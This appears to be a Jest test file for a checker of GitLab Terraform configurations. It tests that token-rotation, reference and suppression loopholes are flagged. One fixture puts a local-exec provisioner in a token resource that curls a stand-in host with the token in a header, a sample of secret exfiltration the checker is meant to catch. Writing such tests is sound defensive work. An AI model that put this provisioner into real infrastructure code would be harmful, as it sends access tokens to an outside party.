/**
 * Ways past the checks that a second read of the engine found, each closed: computed values posing as the
 * reference they read, schedules in months or without a time_rotating, rotation given as an expression,
 * stack-wide suppressions of fail-closed rules, hand-written grants the gate did not see, deeply nested
 * locals, `self` in provisioners and runner registration tokens.
 *
 * GIVEN one stack of hand-written Terraform JSON WHEN checked THEN the finding that names the risk.
 */
import { diffInventories, inventoriesFromReports } from '../../../lib/core';
import { active, check, checkStacks, compliantToken, ruleIds, stack } from './engine-fixture';
import { mentioning } from '../../support/mentioning';

const SERVICE_ACCOUNT = { gitlab_group_service_account: { sa: { group: 'acme', name: 'team-sa', username: 'acme_team-sa' } } };
const ROTATION = { expiration_days: 90, rotate_before_days: 14 };

describe('only a whole reference is followed', () => {
  test('a user id computed from the service account\'s id is not that service account: GLID-022', () => {
    const report = check(stack({
      resource: {
        ...SERVICE_ACCOUNT,
        gitlab_personal_access_token: { pat: { user_id: '${gitlab_group_service_account.sa.service_account_id > 0 ? 1 : 1}', name: 'team-pat', scopes: ['api'], rotation_configuration: ROTATION } },
      },
    }));
    expect(active(report, 'GLID-022').map((f) => f.message)).toEqual([expect.stringContaining('cannot verify user_id')]);
  });

  test('a project computed from a data source\'s id is not that project: GLID-022', () => {
    const report = check(stack({
      data: { gitlab_project: { a: { path_with_namespace: 'acme/app' } } },
      resource: { gitlab_project_access_token: { t: compliantToken({ project: '${data.gitlab_project.a.id == "" ? "x" : "acme/prod"}' }) } },
    }));
    expect(active(report, 'GLID-022').map((f) => f.message)).toEqual([expect.stringContaining('cannot verify project')]);
  });

  test('the forms the library writes are followed: a bare reference and tonumber() of one', () => {
    const report = check(stack({
      data: { gitlab_project: { a: { path_with_namespace: 'acme/app' } } },
      resource: {
        ...SERVICE_ACCOUNT,
        gitlab_project_access_token: { t: compliantToken({ project: '${data.gitlab_project.a.id}' }) },
        gitlab_project_membership: { m: { project: 'acme/app', user_id: '${tonumber(gitlab_group_service_account.sa.service_account_id)}', access_level: 'reporter' } },
      },
    }));
    expect(active(report, 'GLID-022')).toEqual([]);
  });
});

describe('schedules the checks cannot read fail closed', () => {
  const deployToken = (extra: Record<string, unknown>) => ({
    name: 'team-pull', project: 'acme/app', scopes: ['read_registry'],
    expires_at: '${timeadd(time_rotating.r.rotation_rfc3339, "336h")}',
    lifecycle: { create_before_destroy: true, replace_triggered_by: ['time_rotating.r'] },
    ...extra,
  });

  test('a time_rotating in years: GLID-022 names it', () => {
    const report = check(stack({ resource: { time_rotating: { r: { rotation_years: 10 } }, gitlab_project_deploy_token: { d: deployToken({}) } } }));
    expect(active(report, 'GLID-022').map((f) => f.message)).toEqual([expect.stringContaining('time_rotating.r sets rotation_years')]);
  });

  test('replaced by something other than a time_rotating: the trigger never rotates (GLID-002)', () => {
    const report = check(stack({
      resource: {
        terraform_data: { never: {} },
        gitlab_pipeline_trigger: { t: { project: 'acme/app', description: 'team-trigger: nightly', lifecycle: { create_before_destroy: true, replace_triggered_by: ['terraform_data.never'] } } },
      },
    }));
    expect(ruleIds(report)).toContain('GLID-002');
  });

  test('an offset that is not a literal number of days: the expiry cannot be known (GLID-022)', () => {
    const report = check(stack({
      locals: { offset: '87601h' },
      resource: { time_rotating: { r: { rotation_days: 30 } }, gitlab_project_deploy_token: { d: deployToken({ expires_at: '${timeadd(time_rotating.r.rotation_rfc3339, local.offset)}' }) } },
    }));
    expect(active(report, 'GLID-022').map((f) => f.message)).toEqual([expect.stringContaining('cannot verify expires_at')]);
  });
});

test('rotation_configuration given as an expression is evaluated: 365 days is GLID-003', () => {
  const report = check(stack({
    locals: { rot: { expiration_days: 365, rotate_before_days: 14 } },
    resource: { gitlab_project_access_token: { t: compliantToken({ rotation_configuration: '${local.rot}' }) } },
  }));
  expect(active(report, 'GLID-003').map((f) => f.message)).toEqual([expect.stringContaining('lives 365 days')]);
});

test('a stack-wide suppression does not turn off GLID-022: fail-closed findings are silenced only where they are', () => {
  const report = check(stack({
    '//': { 'gitlab-identity': { suppressions: { all: { id: 'GLID-022', reason: 'the whole stack is reviewed elsewhere', scope: 'team' } } } },
    variable: { role: {} },
    resource: { gitlab_project_access_token: { t: { '//': { metadata: { path: 'team/t' } }, ...compliantToken({ access_level: '${var.role}' }) } } },
  }));
  expect(active(report, 'GLID-022').filter((f) => f.level === 'error').map((f) => f.path)).toEqual(['team/t']);
});

describe('hand-written grants are inventoried, so the gate sees them', () => {
  const owner = { gitlab_group_membership: { m: { group_id: 1, user_id: 42, access_level: 'owner' } } };

  test('an owner group membership of a person is an entry with its role and user', () => {
    const [report] = checkStacks([{ name: 'team', config: stack({ resource: owner }) }]);
    const [inventory] = inventoriesFromReports([report]);
    expect(inventory.identities.map((e) => [e.kind, e.accessLevel, e.users])).toEqual([['group membership', 'owner', ['user 42']]]);
  });

  test('adding it is an escalation in the diff', () => {
    const before = inventoriesFromReports(checkStacks([{ name: 'team', config: stack({ resource: {} }) }]));
    const after = inventoriesFromReports(checkStacks([{ name: 'team', config: stack({ resource: owner }) }]));
    expect(diffInventories(before, after).escalations.map((e) => e.change.dimension)).toEqual(['identity']);
  });

  test('moving a group share to another group is a change of reach that escalates', () => {
    const share = (group: number) => ({ gitlab_group_share_group: { s: { group_id: group, share_group_id: 7, group_access: 'developer' } } });
    const before = inventoriesFromReports(checkStacks([{ name: 'team', config: stack({ resource: share(1) }) }]));
    const after = inventoriesFromReports(checkStacks([{ name: 'team', config: stack({ resource: share(2) }) }]));
    expect(diffInventories(before, after).escalations.map((e) => e.change.dimension)).toEqual(['reach']);
  });
});

describe('secrets the engine cannot follow to the end are still secrets', () => {
  test('through 70 locals: GLID-012', () => {
    const locals: Record<string, string> = { l0: '${gitlab_project_access_token.t.token}' };
    for (let i = 1; i < 70; i++) locals[`l${i}`] = `\${local.l${i - 1}}`;
    const report = check(stack({ locals, resource: { gitlab_project_access_token: { t: compliantToken() } }, output: { leak: { value: '${local.l69}' } } }));
    expect(ruleIds(report)).toContain('GLID-012');
  });

  test('self.token in a provisioner of the token itself: GLID-023', () => {
    const report = check(stack({
      resource: { gitlab_project_access_token: { t: compliantToken({ provisioner: [{ 'local-exec': { command: 'curl -H "t: ${self.token}" https://x.example.com' } }] }) } },
    }));
    expect(active(report, 'GLID-023').map((f) => f.message)).toEqual([
      // The place written, then the token: it is also the start of the place, so listed twice.
      mentioning('gitlab_project_access_token.t.provisioner', 'gitlab_project_access_token.t', 'gitlab_project_access_token.t'),
    ]);
  });

  test('a group\'s runner registration token in a plain output: GLID-012', () => {
    const report = check(stack({ data: { gitlab_group: { g: { full_path: 'acme' } } }, output: { runners: { value: '${data.gitlab_group.g.runners_token}' } } }));
    expect(ruleIds(report)).toContain('GLID-012');
  });
});

test('given resource and data types named after Object.prototype members, when checked, then they are unknown types, not a crash', () => {
  const config = stack({
    resource: {
      toString: { a: { value: '${gitlab_project_access_token.t.token}' } },
      constructor: { b: { x: '${toString.a.value}' } },
      gitlab_project_access_token: { t: compliantToken() },
      gitlab_project_job_token_scope: { j: { project: 'acme/app', target_project_id: '${hasOwnProperty.p.id}' } },
    },
    data: { hasOwnProperty: { p: { id: 1 } }, __proto__x: { q: {} } },
  });
  expect(() => checkStacks([{ name: 'team', config }])).not.toThrow();
});
